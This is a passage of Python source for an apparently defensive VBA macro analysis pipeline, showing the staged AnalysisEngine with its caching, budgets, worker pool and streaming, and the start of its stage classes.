            "ok": self.ok,
            "error": self.error,
            "container": self.container,
            "macros": [macro.to_dict() for macro in self.macros],
            "document_variables": dict(self.document_variables),
            "diagnostics": [d.to_dict() for d in self.diagnostics],
            "timings": dict(self.timings),
            "degraded": self.degraded,
            "completed_stages": list(self.completed_stages),
            "quarantine": dict(self.quarantine)
            if self.quarantine is not None
            else None,
        }

    def degrade(self, stage: str, message: str) -> None:
        """Record a survivable failure: error diagnostic + degraded marker."""
        self.degraded = True
        self.diag(stage, "error", message)
