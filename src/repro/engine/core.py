"""The staged :class:`AnalysisEngine`: one parse-once pipeline from document
bytes to verdict.

Every entry point of the repo — CLI commands, the dataset builder, the
experiment runner, the examples — drives this engine instead of gluing
extraction / analysis / featurization together privately.  The engine:

* threads a :class:`~repro.engine.records.DocumentRecord` through the
  configured stages (extract → filter → analyze → featurize → classify);
* is **total**: per-file failures become error diagnostics on the record,
  never exceptions (N inputs in, N records out);
* memoizes whole-document results in a content-hash (SHA-256) cache, so
  duplicate attachments are analyzed once;
* fans batches out over a persistent warm
  :class:`~repro.engine.stream.StreamingPool` with
  ``run_batch(inputs, jobs=N)``, and exposes the same pool as a true
  streaming front-end via :meth:`AnalysisEngine.stream` (documents from
  an iterator, bounded-window backpressure, results yielded as they
  complete under an ordering contract).

Records served from the cache share their macro list with the original
record; treat records as read-only after a run.

The engine is **resilient** as well as total (see :mod:`repro.resilience`):
every document runs under a :class:`~repro.resilience.budgets.Budget`
(input size, wall clock, optional hard per-stage watchdog, macro
count/volume caps), a stage that crashes mid-pipeline degrades the record
instead of losing it (later stages still run over what exists), and
``run_batch(jobs=N)`` survives worker death — with one task in flight per
worker, blame is per-task: the blamed document is retried with capped
backoff and quarantined when retries are exhausted, while only the dead
worker is rebuilt (survivors stay warm, no bisection rounds).
"""

from __future__ import annotations

import asyncio
import math
import os
import threading
import time
import weakref
from collections.abc import AsyncIterator, Iterable, Iterator, Sequence
from concurrent.futures import ProcessPoolExecutor

import numpy as np

from repro.engine.records import DocumentRecord, MacroRecord, sha256_hex
from repro.engine.stages import (
    AnalyzeStage,
    ClassifyStage,
    ExtractStage,
    FeaturizeStage,
    FilterShortStage,
    LintStage,
    MacroStage,
    RecoverStage,
    Stage,
)
from repro.features.cache import FeatureRowCache
from repro.features.matrix import extract_matrices
from repro.obs.metrics import NULL_REGISTRY, MetricsRegistry
from repro.resilience.budgets import (
    DEFAULT_BUDGET,
    Budget,
    StageTimeout,
    call_with_timeout,
    clip_budget,
)

#: chunks per worker for :meth:`AnalysisEngine.feature_matrices` fan-out
#: (documents go through the per-task streaming pool instead).
_CHUNKS_PER_JOB = 4


def default_stages(
    *,
    detector=None,
    feature_sets: tuple[str, ...] = ("V",),
    min_macro_bytes: int = 0,
    threshold: float = 0.5,
    lint: bool = False,
    lint_rules: tuple[str, ...] | None = None,
    recover: bool = False,
    sa_budget=None,
) -> list[Stage]:
    """The canonical stage chain for the given options."""
    stages: list[Stage] = [ExtractStage()]
    if min_macro_bytes > 0:
        stages.append(FilterShortStage(min_macro_bytes))
    if feature_sets or lint:
        stages.append(AnalyzeStage())
    if recover:  # between analyze and featurize: R rows and recovered
        stages.append(RecoverStage(sa_budget))  # strings feed downstream
    if feature_sets:
        stages.append(FeaturizeStage(feature_sets))
    if lint:
        stages.append(LintStage(lint_rules))
    if detector is not None:
        if not feature_sets:
            raise ValueError("a detector needs at least one feature set")
        stages.append(ClassifyStage(detector, feature_sets[0], threshold))
    return stages


class AnalysisEngine:
    """Run documents (or bare macro sources) through the staged pipeline."""

    def __init__(
        self,
        stages: Sequence[Stage] | None = None,
        *,
        detector=None,
        feature_sets: tuple[str, ...] = ("V",),
        min_macro_bytes: int = 0,
        threshold: float = 0.5,
        lint: bool = False,
        lint_rules: tuple[str, ...] | None = None,
        recover: bool = False,
        sa_budget=None,
        cache_size: int = 1024,
        keep_analysis: bool = False,
        metrics: MetricsRegistry | None = None,
        budget: Budget | None = DEFAULT_BUDGET,
        retry=None,
        chaos=None,
        mp_context: str | None = None,
        feature_cache_size: int = 4096,
        shm_threshold: int | None = None,
    ) -> None:
        if stages is None:
            stages = default_stages(
                detector=detector,
                feature_sets=tuple(feature_sets),
                min_macro_bytes=min_macro_bytes,
                threshold=threshold,
                lint=lint,
                lint_rules=lint_rules,
                recover=recover,
                sa_budget=sa_budget,
            )
        self.stages = list(stages)
        self.budget = budget
        self.retry = retry  # RetryPolicy | None (None = DEFAULT_RETRY)
        if chaos is not None:  # FaultPlan: splice the saboteur in
            from repro.resilience.chaos import ChaosStage

            position = next(
                (
                    index + 1
                    for index, stage in enumerate(self.stages)
                    if isinstance(stage, ExtractStage)
                ),
                0,
            )
            self.stages.insert(position, ChaosStage(chaos))
        self.feature_sets = tuple(feature_sets)
        self.keep_analysis = keep_analysis
        #: worker→parent results at or above this pickle size travel over a
        #: shared-memory segment instead of the result pipe (None = default
        #: threshold, <= 0 disables shm transport entirely)
        self.shm_threshold = shm_threshold
        self.metrics = metrics if metrics is not None else NULL_REGISTRY
        self._feature_cache = self._wire_feature_cache(feature_cache_size)
        self._cache: dict[str, DocumentRecord] | None = (
            {} if cache_size > 0 else None
        )
        self._cache_size = cache_size
        self.cache_hits = 0
        self.cache_misses = 0
        self.cache_evictions = 0
        #: worker start method for the streaming pool (None = platform default)
        self.mp_context = mp_context
        self._pool = None  # lazily-built persistent StreamingPool
        self._pool_config: tuple | None = None
        #: serializes pool build/teardown: async shutdown may close from a
        #: signal handler and a context manager simultaneously
        self._lifecycle_lock = threading.Lock()
        #: optional fleet-observability attachments, parent-side only: a
        #: :class:`~repro.obs.windows.SlidingWindow` advanced by
        #: :meth:`_observability_tick`, and a
        #: :class:`~repro.obs.drift.DriftMonitor` scoring live traffic
        #: against a baseline profile.  Both are plain assignable
        #: attributes; workers never see them (see ``__getstate__``).
        self.window = None
        self.drift_monitor = None

    def _wire_feature_cache(self, capacity: int) -> FeatureRowCache | None:
        """Build the normalized-source feature-row cache and wire it into
        the analyze/featurize stages.

        The analyze stage may *skip tokenization* on a hit, but only when
        nothing downstream needs the token-level analysis: ``keep_analysis``
        off and no macro stage beyond analyze/featurize/classify in the
        chain (lint and custom macro stages read ``macro.analysis``).
        """
        featurize = [s for s in self.stages if isinstance(s, FeaturizeStage)]
        if capacity <= 0 or not featurize:
            return None
        cache = FeatureRowCache(capacity)
        cached_sets = tuple(
            dict.fromkeys(
                name for stage in featurize for name in stage.feature_sets
            )
        )
        # RecoverStage folds the raw source, not the token analysis, so it
        # does not force tokenization on cache hits.
        analysis_needed = self.keep_analysis or any(
            isinstance(stage, MacroStage)
            and not isinstance(
                stage,
                (AnalyzeStage, FeaturizeStage, ClassifyStage, RecoverStage),
            )
            for stage in self.stages
        )
        for stage in self.stages:
            if isinstance(stage, AnalyzeStage):
                stage.feature_cache = cache
                stage.cached_sets = cached_sets
                stage.analysis_required = analysis_needed
            elif isinstance(stage, FeaturizeStage):
                stage.feature_cache = cache
        return cache

    # -- convenience constructors --------------------------------------

    @classmethod
    def for_extraction(
        cls,
        min_macro_bytes: int = 0,
        metrics: MetricsRegistry | None = None,
        budget: Budget | None = DEFAULT_BUDGET,
        chaos=None,
        mp_context: str | None = None,
    ) -> "AnalysisEngine":
        """Extraction (and optional length filter) only — no featurization."""
        return cls(
            feature_sets=(),
            min_macro_bytes=min_macro_bytes,
            metrics=metrics,
            budget=budget,
            chaos=chaos,
            mp_context=mp_context,
        )

    @classmethod
    def for_features(
        cls,
        feature_sets: tuple[str, ...] = ("V", "J"),
        metrics: MetricsRegistry | None = None,
    ) -> "AnalysisEngine":
        """Analyze + featurize, no classifier (training / experiments)."""
        return cls(feature_sets=feature_sets, metrics=metrics)

    @classmethod
    def for_scan(
        cls,
        detector,
        feature_sets: tuple[str, ...] = ("V",),
        threshold: float = 0.5,
        lint: bool = False,
        recover: bool = False,
        sa_budget=None,
        metrics: MetricsRegistry | None = None,
        budget: Budget | None = DEFAULT_BUDGET,
        chaos=None,
    ) -> "AnalysisEngine":
        """The full chain ending in a verdict (deployment / CLI scan)."""
        return cls(
            detector=detector,
            feature_sets=feature_sets,
            threshold=threshold,
            lint=lint,
            recover=recover,
            sa_budget=sa_budget,
            metrics=metrics,
            budget=budget,
            chaos=chaos,
        )

    @classmethod
    def for_lint(
        cls,
        rules: tuple[str, ...] | None = None,
        recover: bool = False,
        sa_budget=None,
        metrics: MetricsRegistry | None = None,
        budget: Budget | None = DEFAULT_BUDGET,
        chaos=None,
    ) -> "AnalysisEngine":
        """Extract + analyze + lint only — explainable findings, no verdict."""
        return cls(
            feature_sets=(),
            lint=True,
            lint_rules=rules,
            recover=recover,
            sa_budget=sa_budget,
            metrics=metrics,
            budget=budget,
            chaos=chaos,
        )

    # -- pickling (workers get an empty cache and a private registry) --

    def __getstate__(self):
        state = dict(self.__dict__)
        state["_cache"] = {} if self._cache is not None else None
        state["cache_hits"] = 0
        state["cache_misses"] = 0
        state["cache_evictions"] = 0
        # Workers fill a same-configuration empty registry; the parent
        # folds the snapshots back in as the stream flushes.
        state["metrics"] = self.metrics.spawn()
        # The warm pool is parent-side infrastructure, never shipped —
        # and so are the observability attachments.
        state["_pool"] = None
        state["_pool_config"] = None
        state["window"] = None
        state["drift_monitor"] = None
        state["_lifecycle_lock"] = None  # locks don't pickle; rebuilt on load
        return state

    def __setstate__(self, state):
        self.__dict__.update(state)
        if self.__dict__.get("_lifecycle_lock") is None:
            self._lifecycle_lock = threading.Lock()

    # -- warm-pool lifecycle -------------------------------------------

    def _stream_pool(self, jobs: int, window: int | None = None):
        """The persistent warm pool for this engine, (re)built on demand.

        The pool survives across ``run_batch`` / ``stream`` calls — that
        is the whole point: workers spawn and import once, then stay warm.
        A call with a different ``jobs``/``window`` shape tears the old
        pool down and builds a fresh one.
        """
        from repro.engine.stream import StreamingPool

        config = (jobs, window)
        with self._lifecycle_lock:
            if self._pool is not None and self._pool_config != config:
                self._pool.close()
                self._pool = None
            if self._pool is None:
                pool = StreamingPool(
                    self,
                    jobs,
                    window=window,
                    retry=self.retry,
                    mp_context=self.mp_context,
                )
                self._pool = pool
                self._pool_config = config
                # The pool holds only a weak reference back to the engine,
                # so this finalizer can fire and shut the workers down.
                weakref.finalize(self, StreamingPool.close, pool)
            return self._pool

    def close(self) -> None:
        """Shut the warm pool down (workers exit).  The engine stays usable;
        the next ``jobs > 1`` call builds a fresh pool.

        Idempotent and safe under concurrent callers: exactly one caller
        detaches the pool under the lifecycle lock and tears it down (the
        pool's own close is likewise race-safe for the finalizer path).
        """
        with self._lifecycle_lock:
            pool, self._pool, self._pool_config = self._pool, None, None
        if pool is not None:
            pool.close()

    def __enter__(self) -> "AnalysisEngine":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()

    # -- cache ---------------------------------------------------------

    def cache_info(self) -> dict[str, int]:
        """Cache traffic so far — merged parent + worker numbers.

        Worker-process counts are folded in as each ``run_batch(jobs=N)``
        pool drains, so the totals agree between ``jobs=1`` and
        ``jobs=N`` runs of the same inputs.  The ``feature_*`` keys report
        the normalized-source feature-row cache (hit/miss/eviction
        counters merge from workers too; ``feature_size`` is the parent
        process's own cache — row contents never cross processes).
        """
        feature = (
            self._feature_cache.info()
            if self._feature_cache is not None
            else {"hits": 0, "misses": 0, "evictions": 0, "size": 0}
        )
        return {
            "hits": self.cache_hits,
            "misses": self.cache_misses,
            "evictions": self.cache_evictions,
            "size": len(self._cache) if self._cache is not None else 0,
            "feature_hits": feature["hits"],
            "feature_misses": feature["misses"],
            "feature_evictions": feature["evictions"],
            "feature_size": feature["size"],
        }

    def _cache_get(self, digest: str) -> DocumentRecord | None:
        if self._cache is None:
            return None
        record = self._cache.get(digest)
        if record is not None:
            self.cache_hits += 1
        return record

    def _cache_put(self, digest: str, record: DocumentRecord) -> None:
        if self._cache is None:
            return
        self.cache_misses += 1
        if digest in self._cache:
            return
        if record.quarantine is not None:
            # Quarantine is an infrastructure observation about this run,
            # not a property of the content — never serve it from cache.
            return
        if record.degraded and any(
            diag.stage == "deadline" for diag in record.diagnostics
        ):
            # Shaped by one request's deadline, not by the content: the
            # same document under a patient caller analyzes fully.
            return
        while len(self._cache) >= self._cache_size:
            self._cache.pop(next(iter(self._cache)))
            self.cache_evictions += 1
        self._cache[digest] = record

    @staticmethod
    def _cached_copy(record: DocumentRecord, source_id: str) -> DocumentRecord:
        copy = DocumentRecord(
            source_id=source_id,
            data=None,
            sha256=record.sha256,
            container=record.container,
            macros=record.macros,
            document_variables=record.document_variables,
            diagnostics=list(record.diagnostics),
            degraded=record.degraded,
            completed_stages=list(record.completed_stages),
            quarantine=dict(record.quarantine)
            if record.quarantine is not None
            else None,
        )
        copy.diag("cache", "info", "served from content-hash cache")
        return copy

    # -- single inputs -------------------------------------------------

    def run(self, source, source_id: str | None = None) -> DocumentRecord:
        """Analyze one document (path, bytes, or (id, bytes) pair)."""
        sid, data, error = _coerce_input(source)
        if source_id is not None:
            sid = source_id
        if error is not None:
            record = DocumentRecord(source_id=sid)
            record.diag("read", "error", error)
            return record
        digest = sha256_hex(data)
        cached = self._cache_get(digest)
        if cached is not None:
            return self._cached_copy(cached, sid)
        record = self._process(sid, data, digest)
        self._cache_put(digest, record)
        return record

    def _process(self, source_id: str, data: bytes, digest: str) -> DocumentRecord:
        record = DocumentRecord(source_id=source_id, data=data, sha256=digest)
        metrics = self.metrics
        budget = self.budget
        if (
            budget is not None
            and budget.max_input_bytes is not None
            and len(data) > budget.max_input_bytes
        ):
            record.degrade(
                "budget",
                f"input is {len(data):,} bytes; budget allows "
                f"{budget.max_input_bytes:,} — refused before extraction",
            )
            if metrics.enabled:
                metrics.counter("budget.input_rejected").inc()
                metrics.counter("documents.degraded").inc()
            record.data = None
            return record
        clock = budget.clock() if budget is not None else None
        if not metrics.enabled and clock is None:
            for stage in self.stages:  # the bare pre-resilience fast path
                stage.process(record)
        elif not metrics.enabled:
            self._run_stages(record, clock, metrics)
        else:
            span = metrics.span("document", doc=digest).start()
            try:
                self._run_stages(record, clock, metrics)
            finally:
                span.finish(outcome="ok" if record.ok else "error")
                record.timings["document"] = span.duration
        record.data = None  # bytes are consumed; keep records IPC-light
        if not self.keep_analysis:
            for macro in record.macros:
                macro.analysis = None
                macro.summary = None
        if metrics.enabled:
            if record.degraded:
                metrics.counter("documents.degraded").inc()
            self._observability_tick()
        return record

    def _run_stages(self, record: DocumentRecord, clock, metrics) -> None:
        """The budgeted stage loop: degrade on crash, stop on timeout."""
        budget = clock.budget if clock is not None else None
        for stage in self.stages:
            if clock is not None and clock.expired():
                record.degrade(
                    "budget",
                    f"wall-clock budget {budget.wall_clock_s:g}s exhausted "
                    f"before stage {stage.name!r}",
                )
                if metrics.enabled:
                    metrics.counter("budget.timeouts").inc()
                break
            timeout = clock.stage_timeout() if clock is not None else None
            try:
                if timeout is not None:
                    self._run_stage_watchdog(stage, record, timeout, metrics)
                elif metrics.enabled:
                    stage.run(record, metrics)
                else:
                    stage.process(record)
            except StageTimeout:
                record.degrade(
                    "budget",
                    f"stage {stage.name!r} exceeded its {timeout:g}s hard "
                    f"timeout and was abandoned",
                )
                if metrics.enabled:
                    metrics.counter("budget.timeouts").inc()
                # The abandoned watchdog thread may still mutate the record;
                # running further stages over racing state helps nobody.
                break
            except Exception as error:
                record.degrade(
                    stage.name,
                    f"stage crashed: {type(error).__name__}: {error}",
                )
                if metrics.enabled:
                    metrics.counter("resilience.stage_crashes").inc()
                    metrics.counter(f"errors.{stage.name}").inc()
                continue  # graceful degradation: later stages use what exists
            record.completed_stages.append(stage.name)
            if budget is not None:
                self._enforce_output_budget(record, budget, metrics)

    def _run_stage_watchdog(
        self, stage: Stage, record: DocumentRecord, timeout: float, metrics
    ) -> None:
        """One stage under the hard watchdog, with the span kept on the
        calling thread so trace depth stays consistent."""
        if not metrics.enabled:
            call_with_timeout(lambda: stage.process(record), timeout)
            return
        before = len(record.diagnostics)
        failed = False
        span = metrics.span(stage.name, doc=record.sha256).start()
        try:
            call_with_timeout(lambda: stage.process(record), timeout)
        except BaseException:
            failed = True
            raise
        finally:
            errors = sum(
                1 for d in record.diagnostics[before:] if d.level == "error"
            )
            if errors:
                metrics.counter(f"errors.{stage.name}").inc(errors)
            span.finish(outcome="error" if errors or failed else "ok")
            record.timings[stage.name] = span.duration

    def _enforce_output_budget(
        self, record: DocumentRecord, budget: Budget, metrics
    ) -> None:
        """Cap what the stages *produced*: surplus macros (count or total
        source characters) become ``filtered="budget"`` stubs."""
        candidates = [m for m in record.macros if m.filtered != "budget"]
        if not candidates:
            return
        keep = len(candidates)
        if budget.max_macro_count is not None:
            keep = min(keep, budget.max_macro_count)
        if budget.max_output_bytes is not None:
            total = 0
            for index, macro in enumerate(candidates[:keep]):
                total += len(macro.source)
                if total > budget.max_output_bytes:
                    keep = index
                    break
        if keep >= len(candidates):
            return
        dropped = candidates[keep:]
        dropped_chars = sum(len(m.source) for m in dropped)
        for macro in dropped:
            macro.filtered = "budget"
            macro.source = ""  # don't let a bomb ride along in the record
            macro.analysis = None
        record.degrade(
            "budget",
            f"macro output over budget: kept {keep} of {len(candidates)} "
            f"macros, dropped {dropped_chars:,} source chars",
        )
        if metrics.enabled:
            metrics.counter("budget.macros_dropped").inc(len(dropped))

    def run_source(self, source: str, name: str = "Macro1") -> MacroRecord:
        """Run one bare VBA source through the macro-level stages.

        The document budget's wall clock applies cooperatively: a source
        that overruns it mid-pipeline comes back ``filtered="budget"``.
        """
        macro = MacroRecord(module_name=name, source=source)
        metrics = self.metrics
        clock = self.budget.clock() if self.budget is not None else None
        if not metrics.enabled:  # the hot single-shot path stays bare
            for stage in self.stages:
                if isinstance(stage, MacroStage) and macro.kept:
                    if clock is not None and clock.expired():
                        macro.filtered = "budget"
                        break
                    stage.process_macro(macro)
        else:
            for stage in self.stages:
                if isinstance(stage, MacroStage) and macro.kept:
                    if clock is not None and clock.expired():
                        macro.filtered = "budget"
                        metrics.counter("budget.timeouts").inc()
                        break
                    stage.run_macro(macro, metrics)
        if not self.keep_analysis:
            macro.analysis = None
            macro.summary = None
        return macro

    # -- batches -------------------------------------------------------

    def run_batch(
        self, inputs: Iterable, jobs: int = 1, *, window: int | None = None
    ) -> list[DocumentRecord]:
        """Analyze many documents; returns one record per input, in order.

        Inputs may mix paths, raw bytes, ``(source_id, bytes)`` pairs, and
        objects with ``file_name``/``data`` attributes.  Identical content
        (by SHA-256) is analyzed once and served from the cache for every
        other occurrence.  With ``jobs > 1`` the unique documents are
        dispatched one task at a time over the engine's persistent
        :class:`~repro.engine.stream.StreamingPool` (workers spawn once
        and stay warm across calls; ``window`` bounds in-flight tasks);
        worker telemetry folds back into :attr:`metrics` (and the cache
        counters) incrementally and is complete before this method
        returns.
        """
        if not self.metrics.enabled:
            return self._run_batch(inputs, jobs, window)
        span = self.metrics.span("batch").start()
        try:
            return self._run_batch(inputs, jobs, window)
        finally:
            span.finish()

    def stream(
        self,
        inputs: Iterable,
        *,
        jobs: int = 1,
        window: int | None = None,
        ordered: bool = True,
    ) -> Iterator[DocumentRecord]:
        """Stream records for an unbounded feed in ``O(window)`` memory.

        Unlike :meth:`run_batch`, the feed is consumed **lazily**: at most
        ``window`` documents are admitted beyond what the caller has
        consumed (backpressure), so a million-document queue never
        materializes.  With ``ordered`` (the default) records come back
        in input order through a bounded reorder buffer; ``ordered=False``
        yields in completion order.  Content seen before is served from
        the engine cache, and identical documents in flight at the same
        time are coalesced and analyzed once.

        ``jobs <= 1`` degrades to a lazy serial loop with the same
        contract (order, caching, totality, O(1) memory).
        """
        if jobs <= 1:
            for item in inputs:
                record = self.run(item)
                # Cache hits skip _process, so tick here as well: sliding
                # windows keep advancing on a hit-heavy serial feed.
                self._observability_tick()
                yield record
            return
        pool = self._stream_pool(jobs, window)

        def entries():
            for seq, item in enumerate(inputs):
                yield self._stream_entry(seq, item)

        for result in pool.stream(entries(), ordered=ordered):
            self._settle_stream_result(result)
            yield result.record

    def _stream_entry(self, key, item, deadline_s: float | None = None) -> tuple:
        """Coerce one input into a tagged :meth:`StreamingPool.stream` entry."""
        sid, data, error = _coerce_input(item)
        if error is not None:
            record = DocumentRecord(source_id=sid)
            record.diag("read", "error", error)
            return ("ready", key, record)
        digest = sha256_hex(data)
        cached = self._cache_get(digest)
        if cached is not None:
            return ("ready", key, self._cached_copy(cached, sid))
        if deadline_s is not None:
            return ("task", key, sid, data, digest, time.monotonic() + deadline_s)
        return ("task", key, sid, data, digest)

    def _settle_stream_result(self, result) -> None:
        """Parent-side bookkeeping for one settled stream result."""
        if result.computed:
            self._cache_put(result.record.sha256, result.record)
        elif result.coalesced:
            self.cache_hits += 1

    async def astream(
        self,
        inputs,
        *,
        jobs: int = 1,
        window: int | None = None,
        ordered: bool = True,
        deadline_s: float | None = None,
    ) -> AsyncIterator[DocumentRecord]:
        """:meth:`stream` for a running event loop.

        ``inputs`` may be a sync or async iterable; every other contract —
        laziness under the admission window, ordering, caching,
        coalescing, totality, quarantine — matches :meth:`stream`.
        ``deadline_s`` propagates a per-document deadline into the
        :class:`~repro.resilience.budgets.Budget` machinery: documents
        still queued when it passes settle as degraded ``deadline``
        records (their admission slots released, nothing cached), and
        dispatched documents analyze under a budget clipped to the time
        remaining — so a request deadline shorter than a configured
        ``--stage-timeout`` wins.

        ``jobs <= 1`` runs serially on a worker thread, keeping the loop
        free; ``jobs > 1`` multiplexes onto the persistent warm pool's
        :meth:`~repro.engine.stream.StreamingPool.astream` loop.
        """
        if jobs <= 1:
            if hasattr(inputs, "__aiter__"):
                async for item in inputs:
                    yield await asyncio.to_thread(
                        self._run_with_deadline, item, deadline_s
                    )
            else:
                for item in inputs:
                    yield await asyncio.to_thread(
                        self._run_with_deadline, item, deadline_s
                    )
            return
        pool = self._stream_pool(jobs, window)

        async def entries():
            seq = 0
            if hasattr(inputs, "__aiter__"):
                async for item in inputs:
                    yield self._stream_entry(seq, item, deadline_s)
                    seq += 1
            else:
                for item in inputs:
                    yield self._stream_entry(seq, item, deadline_s)
                    seq += 1

        async for result in pool.astream(entries(), ordered=ordered):
            self._settle_stream_result(result)
            yield result.record

    def _run_with_deadline(
        self, item, deadline_s: float | None
    ) -> DocumentRecord:
        """Serial :meth:`run` under an optional per-request deadline."""
        if deadline_s is None:
            record = self.run(item)
            self._observability_tick()
            return record
        sid, data, error = _coerce_input(item)
        if error is not None:
            record = DocumentRecord(source_id=sid)
            record.diag("read", "error", error)
            return record
        digest = sha256_hex(data)
        cached = self._cache_get(digest)
        if cached is not None:
            self._observability_tick()
            return self._cached_copy(cached, sid)
        saved = self.budget
        self.budget = clip_budget(saved, deadline_s)
        try:
            record = self._process(sid, data, digest)
        finally:
            self.budget = saved
        if record.degraded:
            record.diag(
                "deadline",
                "info",
                f"analyzed under a {deadline_s:.3f}s request deadline",
            )
        self._cache_put(digest, record)  # refuses deadline-shaped records
        self._observability_tick()
        return record

    def _run_batch(
        self, inputs: Iterable, jobs: int, window: int | None = None
    ) -> list[DocumentRecord]:
        prepared = [_coerce_input(item) for item in inputs]
        records: list[DocumentRecord | None] = [None] * len(prepared)

        # Positions that need processing, grouped by content hash.
        pending: dict[str, list[int]] = {}
        digests: dict[int, str] = {}
        for index, (sid, data, error) in enumerate(prepared):
            if error is not None:
                record = DocumentRecord(source_id=sid)
                record.diag("read", "error", error)
                records[index] = record
                continue
            digest = sha256_hex(data)
            digests[index] = digest
            cached = self._cache_get(digest)
            if cached is not None:
                records[index] = self._cached_copy(cached, sid)
                continue
            pending.setdefault(digest, []).append(index)

        unique = [
            (digest, prepared[positions[0]][0], prepared[positions[0]][1])
            for digest, positions in pending.items()
        ]
        if jobs > 1 and len(unique) > 1:
            processed = self._process_parallel(unique, jobs, window)
        else:
            processed = {
                digest: self._process(sid, data, digest)
                for digest, sid, data in unique
            }

        for digest, positions in pending.items():
            record = processed[digest]
            self._cache_put(digest, record)
            first, *rest = positions  # record was processed under first's id
            records[first] = record
            for index in rest:
                self.cache_hits += 1
                records[index] = self._cached_copy(record, prepared[index][0])
        return records  # type: ignore[return-value]

    def _process_parallel(
        self,
        unique: list[tuple[str, str, bytes]],
        jobs: int,
        window: int | None = None,
    ) -> dict[str, DocumentRecord]:
        """Per-task dispatch over the persistent warm pool.

        Inputs are already deduplicated by digest, so each task's key *is*
        its digest; completion order is irrelevant here because the batch
        shell reassembles records by position.
        """
        pool = self._stream_pool(jobs, window)
        entries = (("task", digest, sid, data, digest) for digest, sid, data in unique)
        return {
            result.key: result.record
            for result in pool.stream(entries, ordered=False)
        }

    def _merge_worker_telemetry(self, telemetry: dict) -> None:
        """Fold one worker's registry snapshot + cache counts into ours."""
        if telemetry["metrics"] is not None:
            self.metrics.merge(telemetry["metrics"])
        cache = telemetry["cache"]
        self.cache_hits += cache["hits"]
        self.cache_misses += cache["misses"]
        self.cache_evictions += cache["evictions"]
        if self._feature_cache is not None:
            self._feature_cache.hits += cache.get("feature_hits", 0)
            self._feature_cache.misses += cache.get("feature_misses", 0)
            self._feature_cache.evictions += cache.get("feature_evictions", 0)
        self._observability_tick()

    def _observability_tick(self) -> None:
        """Advance the attached sliding window and drift monitor.

        Called from every telemetry merge point — worker snapshot folds,
        the streaming settle loop, and the serial document path — so the
        attachments trail live traffic by at most one merge interval.
        Both attachments time-gate internally, and the whole call is three
        attribute checks when nothing is attached (or telemetry is off).
        """
        if not self.metrics.enabled:
            return
        if self.window is not None:
            self.window.tick(self.metrics)
        if self.drift_monitor is not None:
            self.drift_monitor.tick()

    def feature_matrices(
        self,
        sources: Sequence[str],
        feature_sets: tuple[str, ...] | None = None,
        jobs: int = 1,
    ) -> dict[str, np.ndarray]:
        """Per-set (n_samples × n_features) matrices over bare macro sources.

        The registry-backed replacement for hand-rolled featurization: each
        source is analyzed once and summarized, then every requested set
        vectorizes whole chunks through its column-batch kernel — the same
        kernels documents hit through :meth:`run_batch`.  With ``jobs > 1``
        each worker builds the matrices for its chunk of sources and the
        parent stacks the blocks; the kernels are row-deterministic, so
        chunking never changes a row.
        """
        names = tuple(feature_sets) if feature_sets else self.feature_sets
        if not names:
            raise ValueError("no feature sets requested")
        sources = list(sources)
        if jobs > 1 and len(sources) > 1:
            with ProcessPoolExecutor(max_workers=jobs) as pool:
                parts = list(
                    pool.map(
                        _featurize_source_chunk,
                        [(names, chunk) for chunk in _chunked(sources, jobs)],
                    )
                )
            return {
                name: np.vstack([part[name] for part in parts])
                for name in names
            }
        return extract_matrices(sources, names)


# ----------------------------------------------------------------------
# Module-level helpers (picklable for the process pool).


def _coerce_input(item) -> tuple[str, bytes | None, str | None]:
    """Normalize one batch input to ``(source_id, bytes|None, error|None)``."""
    if isinstance(item, tuple) and len(item) == 2:
        source_id, data = item
        return str(source_id), bytes(data), None
    if isinstance(item, (bytes, bytearray, memoryview)):
        data = bytes(item)
        return f"<bytes:{sha256_hex(data)[:12]}>", data, None
    if hasattr(item, "data") and hasattr(item, "file_name"):
        return str(item.file_name), bytes(item.data), None
    path = os.fspath(item)
    try:
        with open(path, "rb") as handle:
            return str(path), handle.read(), None
    except OSError as error:
        return str(path), None, str(error)


def _chunked(items: list, jobs: int) -> list[list]:
    size = max(1, math.ceil(len(items) / (jobs * _CHUNKS_PER_JOB)))
    return [items[start : start + size] for start in range(0, len(items), size)]


def _featurize_source_chunk(payload) -> dict[str, np.ndarray]:
    names, sources = payload
    return extract_matrices(sources, names)
