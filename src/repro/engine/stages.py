"""Composable pipeline stages: bytes → modules → analysis → features → verdict.

Each stage mutates the :class:`~repro.engine.records.DocumentRecord` in
place and records what it did as diagnostics.  Document-level stages
implement :meth:`Stage.process`; macro-level stages additionally expose
:meth:`MacroStage.process_macro` so the engine can run a bare VBA source
(no container) through the same code path.
"""

from __future__ import annotations

from repro.engine.records import DocumentRecord, MacroRecord
from repro.features.registry import get_feature_set


class Stage:
    """Base class: one named step of the analysis pipeline."""

    name = "stage"

    def process(self, document: DocumentRecord) -> None:
        raise NotImplementedError

    def run(self, document: DocumentRecord, metrics) -> None:
        """:meth:`process` inside a telemetry span.

        With a live registry the stage's wall time lands in the
        ``span.<name>`` histogram and on ``document.timings``, and every
        error diagnostic the stage adds bumps the ``errors.<name>``
        counter.  With the null registry this is a plain :meth:`process`
        call — one attribute check of overhead.
        """
        if not metrics.enabled:
            self.process(document)
            return
        before = len(document.diagnostics)
        span = metrics.span(self.name, doc=document.sha256).start()
        try:
            self.process(document)
        finally:
            errors = sum(
                1 for d in document.diagnostics[before:] if d.level == "error"
            )
            if errors:
                metrics.counter(f"errors.{self.name}").inc(errors)
            span.finish(outcome="error" if errors else "ok")
            document.timings[self.name] = span.duration


class MacroStage(Stage):
    """A stage that works per-macro; skips macros filtered upstream."""

    def process(self, document: DocumentRecord) -> None:
        for macro in document.macros:
            if macro.kept:
                self.process_macro(macro, document)

    def process_macro(
        self, macro: MacroRecord, document: DocumentRecord | None = None
    ) -> None:
        raise NotImplementedError

    def run_macro(self, macro: MacroRecord, metrics) -> None:
        """:meth:`process_macro` inside a span (the bare-source path)."""
        if not metrics.enabled:
            self.process_macro(macro)
            return
        span = metrics.span(self.name, doc=macro.sha256).start()
        try:
            self.process_macro(macro)
        finally:
            failed = macro.filtered == "analysis-error"
            if failed:
                metrics.counter(f"errors.{self.name}").inc()
            span.finish(outcome="error" if failed else "ok")


class ExtractStage(Stage):
    """Document bytes → VBA modules + hidden document variables."""

    name = "extract"

    def process(self, document: DocumentRecord) -> None:
        from repro.ole.extractor import ExtractionError, extract_macros

        if document.data is None:
            document.diag(self.name, "error", "no document bytes to extract from")
            return
        try:
            result = extract_macros(document.data)
        except ExtractionError as error:
            document.diag(self.name, "error", str(error))
            return
        document.container = result.container
        document.document_variables = dict(result.document_variables)
